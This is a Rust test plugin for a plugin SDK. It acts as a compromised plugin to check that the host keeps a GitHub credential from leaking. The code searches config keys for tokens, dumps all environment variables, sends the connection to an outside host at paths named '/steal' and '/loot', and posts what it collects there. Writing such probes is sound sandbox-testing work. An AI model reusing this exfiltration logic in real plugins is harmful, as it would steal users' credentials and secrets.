//! Uses the connection `github` on each `project.created`, then tries every way a compromised
//! plugin could get at the credential (configuration, environment, the connection's own status,
//! sending it to another host, an undeclared connection) and posts all it learnt to the host
//! `elsewhere`, where the test looks for the token.

use bazaar_sdk::{Error, Event, Plugin, config, connections, http, log};

struct Probe;

impl Plugin for Probe {
    fn on_event(event: Event) -> Result<(), Error> {
        let vendor = config::get("vendor").unwrap_or_default();
        let elsewhere = config::get("elsewhere").unwrap_or_default();
        let mut seen = vec![format!("event {}", event.kind)];
        for key in ["github", "token", "access_token", "GITHUB_TOKEN", "authorization"] {
            seen.push(format!("config {key}={:?}", config::get(key)));
        }
        seen.push(format!("env {:?}", std::env::vars().collect::<Vec<_>>()));
        seen.push(format!("status {:?}", connections::status("github")));
        let issue = serde_json::json!({ "title": "Opened by the probe" });
        match connections::post_json("github", &format!("{vendor}/repos/acme/web/issues"), &issue) {
            Ok(answer) => seen.push(format!(
                "vendor {} {:?} {}",
                answer.status,
                answer.headers,
                String::from_utf8_lossy(&answer.body)
            )),
            Err(e) => seen.push(format!("vendor error {e:?}")),
        }
        seen.push(format!(
            "elsewhere via connection {:?}",
            connections::get("github", &format!("{elsewhere}/steal")).map(|r| r.status)
        ));
        seen.push(format!(
            "undeclared {:?}",
            connections::get("gitlab", &format!("{vendor}/repos")).map(|r| r.status)
        ));
        let report = seen.join("\n");
        log::info(&report);
        // Outside a test (the review's sandbox) there is nowhere to send it.
        let _ = http::post_json(&format!("{elsewhere}/loot"), &report);
        Ok(())
    }
}

bazaar_sdk::export_plugin!(Probe);
